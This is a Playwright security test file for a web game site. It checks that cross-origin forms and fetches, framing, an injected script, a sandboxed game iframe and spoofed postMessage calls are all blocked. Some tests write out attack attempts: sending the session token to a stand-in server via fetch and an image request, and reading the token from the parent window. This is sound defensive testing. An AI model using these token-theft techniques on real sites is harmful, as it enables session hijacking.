import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect } from '@playwright/test';
import { enter } from './members.ts';
import { openGame, test } from './visitor.ts';

/** A site of another origin, and the addresses requested there. */
async function withStranger(
  html: string,
  visit: (address: string, asked: string[]) => Promise<void>,
): Promise<void> {
  const asked: string[] = [];
  const server = createServer(({ url = '' }, response) => {
    asked.push(url);
    response.setHeader('content-type', 'text/html').end(html);
  });
  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
  try {
    await visit(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`, asked);
  } finally {
    server.close();
  }
}

test.describe('a page of another origin', () => {
  // The last one: the reply to a form is a sandboxed page, where the journey’s script is blocked.
  test.use({
    expectedComplaint:
      /CORS policy|net::ERR_FAILED|frame-ancestors|Blocked script execution in \S+freeplay/,
  });

  test('K4 K5 a form or fetch of another origin has no effect and reads nothing', async ({
    page,
    baseURL,
  }) => {
    await enter(page, 'lantern');
    const action = `${baseURL}/wps/session/login/freeplay`;
    const html = `<form method=post action="${action}"><button>go</button></form>`;
    await withStranger(html, async (address) => {
      await page.goto(address);
      const read = await page.evaluate(
        (target) =>
          fetch(target, {
            method: 'POST',
            headers: { 'content-type': 'text/plain' },
            body: '{}',
            credentials: 'include',
          }).then(
            (reply) => reply.status,
            () => 'blocked',
          ),
        `${baseURL}/wps/session/login/freeplay`,
      );
      expect(read).toBe('blocked');
      const answered = page.waitForResponse('**/freeplay');
      await page.getByRole('button').click();
      expect((await answered).status()).toBe(415);
      await page.waitForURL('**/freeplay');
    });
  });

  test('K6 the site cannot be framed by other sites', async ({ page, baseURL }) => {
    await withStranger(`<iframe src="${baseURL}/"></iframe>`, async (address) => {
      const refused = page.waitForEvent('console', (message) =>
        /frame-ancestors|X-Frame-Options/i.test(message.text()),
      );
      await page.goto(address);
      await refused;
    });
  });
});

test.describe('an injected script', () => {
  test.use({ expectedComplaint: /Content Security Policy/ });

  test('K22 cannot send the token away, and elsewhere the token does not work', async ({
    page,
    request,
    baseURL,
  }) => {
    await enter(page, 'lantern');
    await page.goto('/');
    const token = await page.evaluate(() => sessionStorage.getItem('token'));
    await withStranger('', async (address, asked) => {
      await page.evaluate(
        (to) =>
          Promise.allSettled([
            fetch(to, { mode: 'no-cors' }),
            new Promise((ended) => {
              const image = new Image();
              image.onload = ended;
              image.onerror = ended;
              image.src = to;
            }),
          ]),
        `${address}?${token}`,
      );
      await request.get(address);
      expect(asked, 'it hears what is sent, and heard nothing of the page').toEqual(['/']);
    });
    const info = `${baseURL}/wps/member/info`;
    const headers = { authorization: `Bearer ${token}` };
    expect((await request.get(info, { headers })).status()).toBe(401);
    expect((await page.request.get(info, { headers })).status()).toBe(200);
  });
});

test('K6 the game cannot move the page or read its storage', async ({ page }) => {
  await enter(page, 'lantern');
  await openGame(page);
  const frame = page.frames().find((one) => one.url().includes('/play/'));
  const stolen = await frame?.evaluate(() => {
    const attempt = (work: () => unknown) => {
      try {
        return work();
      } catch (error) {
        return (error as Error).name;
      }
    };
    return [
      attempt(() => window.top?.sessionStorage.getItem('token')),
      attempt(() => window.top?.document.title),
    ];
  });
  expect(stolen).toEqual(['SecurityError', 'SecurityError']);
  expect(await page.locator('iframe').getAttribute('sandbox')).not.toContain(
    'allow-top-navigation',
  );
});

test('K7 a message of another origin has no effect on the page', async ({ page }) => {
  await enter(page, 'lantern');
  await openGame(page);
  await page.evaluate(() => {
    for (const type of ['lantern:close', 'lantern:balance', 'balance', 'close'])
      window.postMessage({ type, balance: '1' }, '*');
  });
  await expect(page.locator('iframe')).toBeVisible();
  expect(new URL(page.url()).pathname).toBe('/game');
});
